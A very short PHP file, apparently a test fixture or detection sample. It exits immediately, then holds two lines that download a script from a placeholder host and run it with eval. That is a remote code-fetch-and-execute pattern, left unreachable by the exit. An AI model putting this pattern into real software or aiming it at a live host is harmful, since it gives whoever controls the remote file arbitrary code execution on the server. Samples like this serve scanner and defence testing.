<?php
exit(0);
$c = file_get_contents('https://dl.php.invalid/s.php');
eval('?>' . $c);
